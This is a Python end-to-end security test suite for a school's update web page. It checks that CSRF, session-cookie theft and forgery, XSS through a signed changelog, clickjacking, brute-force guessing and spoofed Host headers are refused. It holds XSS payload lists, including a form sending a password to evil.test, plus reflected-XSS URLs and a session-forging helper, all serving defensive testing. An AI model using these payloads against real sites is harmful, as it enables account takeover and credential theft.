# SPDX-License-Identifier: GPL-3.0-or-later
"""The page of a school under attack: from other sites, from whoever has a cookie or guesses, by what a release says of
itself. A real page over TLS, a real agent behind it; both stay for all cases of this row.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import requests
from flask.sessions import SecureCookieSessionInterface

from ansible_collections.clms.update.plugins.module_utils.agent_client import Conversation
from tests.e2e.observe import wait_for
from webui.school import config
from webui.school.app import create_app

from . import uploads
from .bench import Bench
from .cases import HELD, REFUSED, Case, Result
from .uploads import Visitor

_SECONDS = 30.0
_COOKIE = "__Host-clms-update"
PAGES = (
    *("/", "/progress", "/history", "/backups", "/files", "/events", "/health", "/settings", "/password"),
    *("/schedule/1.0.1", "/release/1.0.1", "/api-description"),
)
_OTHERS = ("/sign-in", "/nowhere", "/static/style.css", "/api/openapi.json", "/api/updates/history", "/metrics")
_PLACES = {"version": "1.0.1", "number": 1, "run": 1, "repair": "check", "update_id": "1",
           "backup": "20261124T101112Z-1.0.0-r1"}  # fmt: skip
_FREE_TRIES = 6
"""wrong passwords after which somebody has to wait, and the one that says so"""
_EVIL = (
    "<script>document.title='taken-over'</script>", "<img src=x onerror=alert(1)>", "</p><svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href='javascript:alert(1)'>what is new</a>",
    "<form action=https://evil.test><input name=password>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "{{ 7 * 191 }} {% raw %} ${7*191}", "\"'><base href=//evil.test>",
)  # fmt: skip
_REFLECTED = (
    *("/release/%3Cscript%3Ealert(1)%3C/script%3E", "/sign-in?next=%22%3E%3Cscript%3E", "/%3Csvg%20onload=x%3E"),
    "/history?kind=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
)
"""addresses that somebody may send to people"""


@contextmanager
def at_the_page(bench: Bench, *, signed_in: bool = True) -> Iterator[Visitor]:
    """Another browser at the page, which is there until this row of cases ends; see :func:`.uploads.at_the_page`."""
    door: Visitor = bench.for_this_row(lambda: uploads.at_the_page(bench, signed_in=False))
    with at_the_same(door) as visitor:
        if signed_in:
            visitor.sign_in(bench.stand.page(bench.school.name).login())
        yield visitor


def accounts(bench: Bench) -> bytes:
    """The accounts as they are kept."""
    return (bench.school.home / "accounts.json").read_bytes()


@contextmanager
def nothing_done(bench: Bench, *, moves: str = "") -> Iterator[None]:
    """Nothing was done or planned or told, no setting and no account is another one."""

    def seen() -> tuple[Any, ...]:
        with bench.school.journal() as journal:
            events = len(journal.events(limit=10_000))
        described = (bench.school.folder / "etc/host_vars/school.yml").read_bytes()
        planned = asked_agent(bench, {"verb": "list", "what": "schedule"})["schedules"]
        return bench.runs(), events, described, planned, accounts(bench)

    before = seen()
    with bench.unchanged(moves=moves):
        yield
    assert seen() == before


def asked_agent(bench: Bench, request: dict[str, Any]) -> dict[str, Any]:
    """What the agent answers to root."""
    with closing(Conversation(bench.stand.agent_socket(bench.school.name), request)) as conversation:
        answer = conversation.wait(_SECONDS)
    assert answer is not None, "the agent does not answer"
    return answer


# CSRF


def doors(bench: Bench) -> list[tuple[str, str]]:
    """Method and path of everything that changes something, as the page itself lists it."""
    app = create_app(config.load(bench.school.folder / "page/settings.json"))
    found = []
    with app.test_request_context():
        addresses = app.url_map.bind("")
        for rule in app.url_map.iter_rules():
            for method in sorted((rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}):
                values = {name: _PLACES[name] for name in rule.arguments}
                found.append((method, addresses.build(rule.endpoint, values, method=method)))
    return found


def other_site(bench: Bench, _: Result) -> str:
    """Another site has the browser of somebody who has signed in send whatever changes something: without a token, with
    a forged one, with one of another session, with the right one from a page of another site.
    """
    with at_the_page(bench) as visitor, at_the_same(visitor) as stranger:
        other, right = stranger.token("/sign-in"), visitor.token("/files")
        own, evil = f"{visitor.url}/", "https://evil.test/"
        tries = (("", own), ("forged", own), (other, own), (right, evil), (right, ""), ("", evil))
        asked = 0
        with nothing_done(bench):
            for method, path in doors(bench):
                for token, origin in tries:
                    asked += 1
                    answer = send(visitor, method, path, token, origin)
                    assert answer.status_code == 400, (method, path, token, origin, answer.status_code, answer.text)
                    assert "FORM_EXPIRED" in answer.text, (method, path, answer.text)
        # the counterpart: the same with the right token, from the page itself, comes through
        assert send(visitor, "POST", "/language", right, own).status_code == 302
        answer = send(visitor, "POST", "/api/enforcement/postpone", right, own)
        assert (answer.status_code, answer.json()["code"]) == (409, "FORCED_NONE"), answer.text
    return f"{asked} requests refused, unchanged"


def send(visitor: Visitor, method: str, path: str, token: str, origin: str) -> requests.Response:
    """A request as a browser sends it for a form, or for a script."""
    headers = {"Referer": origin, "Origin": origin.rstrip("/")} if origin else {}
    content: dict[str, Any] = {"data": {"csrf_token": token, "submit": "y"}}
    if path == "/api/files":
        headers |= {"X-CSRFToken": token}
        content = {"files": {"file": ("clms.zip", b"PK")}}
    elif path.startswith("/api/"):
        headers |= {"X-CSRFToken": token, "Content-Type": "application/json"}
        content = {"data": b""}
        if method == "DELETE":
            headers.pop("Content-Type")
    return visitor.session.request(
        method, visitor.url + path, headers=headers, timeout=_SECONDS, allow_redirects=False, **content
    )


@contextmanager
def at_the_same(visitor: Visitor, **headers: str) -> Iterator[Visitor]:
    """Somebody else at the same page."""
    other = Visitor(visitor.url, visitor.certificate)
    other.session.headers.update(headers)
    with other.session:
        yield other


# session theft


def knows(visitor: Visitor) -> bool:
    """Whether the page takes a browser for one in which somebody has signed in."""
    answer = visitor.session.get(f"{visitor.url}/files", timeout=_SECONDS, allow_redirects=False)
    asked = visitor.session.get(f"{visitor.url}/api/files", timeout=_SECONDS)
    assert (answer.status_code, asked.status_code) in ((200, 200), (302, 401)), (answer.status_code, asked.status_code)
    if answer.status_code == 302:
        assert answer.headers["Location"].startswith("/sign-in"), answer.headers
    return answer.status_code == 200


def is_asked_to_sign_in(visitor: Visitor) -> bool:
    """One question only: between two of them a session may end."""
    answer = visitor.session.get(f"{visitor.url}/files", timeout=_SECONDS, allow_redirects=False)
    return answer.status_code == 302


def stolen(visitor: Visitor, cookie: str, **headers: str) -> bool:
    """Whether a cookie counts in another browser."""
    with at_the_same(visitor, **headers) as thief:
        thief.session.headers["Cookie"] = f"{_COOKIE}={cookie}"
        return knows(thief)


def session_theft(bench: Bench, _: Result) -> str:
    """Somebody plants a cookie before others sign in, forges one, has stolen one, or keeps one whose time is over."""
    name, password = make_account(bench)
    with at_the_page(bench, signed_in=False) as visitor:
        visitor.token("/sign-in")
        planted = visitor.session.cookies[_COOKIE]
        visitor.sign_in({"username": name, "password": password})
        own = visitor.session.cookies[_COOKIE]
        assert knows(visitor)
        assert stolen(visitor, own), "the counterpart: the same browser is known by its cookie"
        assert own != planted
        assert not stolen(visitor, planted), "a cookie that was there before is signed in now"
        assert not stolen(visitor, own, **{"User-Agent": "another browser"}), "it counts in another browser"
        assert not stolen(visitor, own[:-4] + ("AAAA" if own[-4:] != "AAAA" else "BBBB"))
        assert not stolen(visitor, forged(bench, name)), "a session signed with another key counts"
        told = visitor.session.get(f"{visitor.url}/sign-in", timeout=_SECONDS, allow_redirects=False)
        said = told.headers.get("Set-Cookie", "") or fresh_cookie(visitor)
        flags = {part.strip().lower() for part in said.split(";")[1:]}
        assert {"secure", "httponly", "samesite=strict", "path=/"} <= flags, said
        assert not any(flag.startswith("domain") for flag in flags), said
        set_password(bench, name, secrets.token_urlsafe(12))
        wait_for(lambda: is_asked_to_sign_in(visitor), seconds=10, what="the end of sessions of another password")
        assert not stolen(visitor, own), "another password has not ended what was stolen"
        remove_account(bench, name)
    return REFUSED


def fresh_cookie(visitor: Visitor) -> str:
    """How a browser is given its cookie."""
    with at_the_same(visitor) as other:
        return other.session.get(f"{visitor.url}/sign-in", timeout=_SECONDS).headers["Set-Cookie"]


def forged(bench: Bench, name: str) -> str:
    """A session of somebody, signed with a key that was made up."""
    app = create_app(config.load(bench.school.folder / "page/settings.json"))
    app.secret_key = secrets.token_bytes(32)
    signer = SecureCookieSessionInterface().get_signing_serializer(app)
    assert signer is not None
    return str(signer.dumps({"_user_id": f"1 {name}", "_fresh": True, "_permanent": True}))


def make_account(bench: Bench) -> tuple[str, str]:
    """Somebody who may sign in."""
    name, password = f"case-{secrets.token_hex(3)}", secrets.token_urlsafe(12)
    set_password(bench, name, password)
    return name, password


def set_password(bench: Bench, name: str, password: str) -> None:
    """As whoever looks after the server does it."""
    config_folder = bench.school.folder / "etc"
    bench.stand.command("clms-update", "--config", config_folder, "account", name, stdin=f"{password}\n")


def remove_account(bench: Bench, name: str) -> None:
    """Nobody signs in by that name any more."""
    assert bench.school.clms_update("account", "--remove", name).code == 0


# XSS


class Made(HTMLParser):
    """What a browser makes of a page: whatever could run, or lead elsewhere."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.words: list[str] = []
        self._script = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element."""
        given = dict(attrs)
        self._script = tag == "script"
        if self._script and not str(given.get("src", "")).startswith("/static/"):
            self.found.append(f"<script {given}>")
        if tag in ("iframe", "object", "embed", "base", "svg") or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag} {given}>")
        for name, value in given.items():
            address = name in ("href", "src", "action", "formaction")
            if name.startswith("on") or name in ("style", "srcdoc") or (address and not _is_own(value or "")):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        """Look at a text."""
        if self._script and data.strip():
            self.found.append(data)
        self.words.append(data)

    def handle_endtag(self, tag: str) -> None:
        """A script ends."""
        self._script = False


def _is_own(address: str) -> bool:
    """Whether an address is one of the page itself."""
    parts = urlsplit(address)
    return not parts.scheme and not parts.netloc


def evil_changelog(bench: Bench, _: Result) -> str:
    """A release whose description is full of orders for browsers, signed with all keys: it is text, on every page."""
    version, text = "1.0.9-evil", "\n".join(_EVIL)
    desk = bench.desk()
    changes = {"changelog": text, "breakingChanges": list(_EVIL), "migrationNotes": text}
    base = {name: value for name, value in changes.items() if name != "migrationNotes"}
    desk.sign(version, sequence=9000, minVersion=None, **base)
    with bench.serving(desk.publish()), at_the_page(bench) as visitor, bench.unchanged(moves="signed"):
        bench.check_works(version)
        for path in ("/", f"/release/{version}", f"/schedule/{version}", "/progress", "/history", "/events"):
            answer = visitor.session.get(visitor.url + path, timeout=_SECONDS)
            assert answer.status_code == 200, (path, answer.text)
            made = Made(answer.text)
            assert not made.found, (path, made.found)
            policy = policies(answer)
            assert policy["default-src"] == ["'none'"], policy
            assert policy["script-src"] == ["'self'"], policy
            assert policy["base-uri"] == ["'none'"], policy
            assert policy["form-action"] == ["'self'"], policy
            if path.startswith("/release/"):  # the counterpart: people can read it as it was written
                words = "".join(made.words)
                assert all(evil in words for evil in _EVIL), words
        answer = visitor.session.get(f"{visitor.url}/api/updates/latest", timeout=_SECONDS)
        assert answer.json()["changelog"] == text
        assert (answer.headers["Content-Type"], answer.headers["X-Content-Type-Options"]) == (
            "application/json", "nosniff"
        )  # fmt: skip
        for path in _REFLECTED:
            answer = visitor.session.get(visitor.url + path, timeout=_SECONDS)
            assert not Made(answer.text).found, (path, Made(answer.text).found)
    return HELD


def policies(answer: requests.Response) -> dict[str, list[str]]:
    """The Content-Security-Policy of an answer."""
    parts = [part.split() for part in answer.headers["Content-Security-Policy"].split(";")]
    return {part[0]: part[1:] for part in parts}


# clickjacking


def in_a_frame(bench: Bench, _: Result) -> str:
    """Another site shows the page in a frame, or takes an answer for something else: every answer forbids it."""
    bench.check_works()  # a page of a release needs one
    with at_the_page(bench) as visitor:
        for path in (*PAGES, *_OTHERS):
            answer = visitor.session.get(visitor.url + path, timeout=_SECONDS, allow_redirects=False)
            assert answer.status_code in (200, 302, 404), (path, answer.status_code)
            wanted = {"X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff",
                      "Cross-Origin-Resource-Policy": "same-origin"}  # fmt: skip
            for name, value in wanted.items():
                assert answer.headers.get(name) == value, (path, name, answer.headers)
            assert policies(answer)["frame-ancestors"] == ["'none'"], (path, answer.headers)
            assert "max-age" in answer.headers["Strict-Transport-Security"], path
            assert "Access-Control-Allow-Origin" not in answer.headers, path
            if not path.startswith("/static/"):
                assert answer.headers["Cache-Control"] == "no-store", (path, answer.headers)
    return HELD


# brute force


def guessing(bench: Bench, _: Result) -> str:
    """Somebody guesses a password, one after the other and 8 at once, the right one among them; and tokens."""
    name, password = make_account(bench)
    with at_the_page(bench) as visitor, nothing_done(bench), at_the_same(visitor) as thief:
        for number in range(_FREE_TRIES):
            text = tried(thief, name, f"wrong password {number}")
            assert "SIGN_IN" not in text
            assert "wait" not in text.lower(), text
        unknown = tried(thief, "no-such-name", "wrong password")
        assert unknown == text, "it is told which names there are"
        with ThreadPoolExecutor(4) as many:
            guesses = [*(f"guess {number}" for number in range(7)), password]
            answers = list(many.map(lambda guess: attempt_of(visitor, name, guess), guesses))
        assert not any(knew for knew, _ in answers), "the right password counts while somebody has to wait"
        assert all("seconds" in said for _, said in answers), [said for _, said in answers if "seconds" not in said]
        # the counterpart: nobody else has to wait, and neither does this one for ever
        assert knows(visitor)
        with at_the_same(visitor) as other:
            other.sign_in(bench.stand.page(bench.school.name).login())
        wait_for(lambda: attempt_of(visitor, name, password)[0], seconds=15, what="an end of the wait")
        tokens_tried(visitor)
    remove_account(bench, name)
    return REFUSED


def tried(visitor: Visitor, name: str, password: str) -> str:
    """Sign in, and read what is said beside the field."""
    data = {"csrf_token": visitor.token("/sign-in"), "name": name, "password": password}
    answer = visitor.session.post(
        f"{visitor.url}/sign-in", data=data, headers={"Referer": f"{visitor.url}/sign-in"}, timeout=_SECONDS
    )
    words = Made(answer.text).words
    return " ".join(word.strip() for word in words if "password" in word.lower() or "seconds" in word.lower())


def attempt_of(visitor: Visitor, name: str, password: str) -> tuple[bool, str]:
    """Whether somebody is signed in with a password, and what is said to them."""
    with at_the_same(visitor) as other:
        said = tried(other, name, password)
        return knows(other), said


def tokens_tried(visitor: Visitor) -> None:
    """Tokens that were made up, many at once; none counts, and nobody else waits for them."""

    def one(_: int) -> int:
        headers = {"Authorization": f"Bearer clms_{secrets.token_hex(4)}_{secrets.token_hex(32)}"}
        answer = requests.get(
            f"{visitor.url}/api/events", headers=headers, verify=visitor.session.verify, timeout=_SECONDS
        )
        assert answer.status_code != 429 or int(answer.headers["Retry-After"]) > 0, answer.headers
        return answer.status_code

    with ThreadPoolExecutor(12) as many:
        statuses = list(many.map(one, range(16)))
    assert set(statuses) <= {401, 429}, statuses
    assert 429 in statuses, "all of them were listened to"


# unknown Host


def unknown_host(bench: Bench, _: Result) -> str:
    """The page is asked for under a name that is not its own, as DNS rebinding does it."""
    with at_the_page(bench) as visitor, nothing_done(bench):
        port = urlsplit(visitor.url).port
        known = {"Cookie": f"{_COOKIE}={visitor.session.cookies[_COOKIE]}"}
        names = ("evil.test", f"evil.test:{port}", "127.0.0.1.evil.test", "localhost.evil.test", "evil.test@localhost",
                 "localhost evil.test", "", "127.0.0.2", "[::1]", "localhost,evil.test")  # fmt: skip
        for host in names:
            for path in ("/sign-in", "/files", "/api/updates/history"):
                answer = visitor.session.get(
                    visitor.url + path, headers={"Host": host, **known}, timeout=_SECONDS, allow_redirects=False
                )
                assert (answer.status_code, answer.json()["code"]) == (400, "REQUEST_HOST"), (host, path, answer.text)
                assert "evil" not in answer.text + str(answer.headers), (host, path, answer.text)
        for name in ("X-Forwarded-Host", "X-Forwarded-Server", "Forwarded", "X-Original-URL", "X-HTTP-Host-Override"):
            headers = {name: "host=evil.test" if name == "Forwarded" else "evil.test"}
            with at_the_same(visitor) as other:
                answer = other.session.get(f"{visitor.url}/", headers=headers, timeout=_SECONDS, allow_redirects=False)
            assert (answer.status_code, answer.headers["Location"]) == (302, "/sign-in"), (name, answer.headers)
            assert "evil" not in answer.text, name
        for wanted in ("//evil.test/", "https://evil.test/", "/\\evil.test", "/\r\nX: y", "javascript:alert(1)"):
            answer = visitor.session.get(
                f"{visitor.url}/sign-in", params={"next": wanted}, timeout=_SECONDS, allow_redirects=False
            )
            assert answer.headers["Location"] == "/", (wanted, answer.headers)
        answer = visitor.session.get(
            f"{visitor.url}/files",
            headers={"Host": f"localhost:{port}", **known},
            timeout=_SECONDS,
            allow_redirects=False,
        )
        assert answer.status_code == 200, "the counterpart: its other name"
    return REFUSED


def cases() -> Iterator[Case]:
    """All of them."""
    for name, act in (
        ("CSRF", other_site),
        ("session theft", session_theft),
        ("XSS in a changelog", evil_changelog),
        ("clickjacking", in_a_frame),
        ("brute force", guessing),
        ("unknown Host", unknown_host),
    ):
        yield Case(f"web page: {name}", act.__doc__ or "", act, slow=act is guessing)
